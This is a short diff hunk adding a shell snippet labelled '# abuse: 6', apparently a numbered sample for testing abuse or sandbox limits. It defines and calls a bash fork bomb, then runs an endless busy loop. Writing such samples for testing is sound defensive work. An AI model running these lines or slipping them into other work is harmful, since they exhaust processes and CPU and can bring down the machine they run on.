@@ -1,0 +1,4 @@
+# abuse: 6
+bomb() { bomb | bomb & }
+bomb
+while :; do :; done
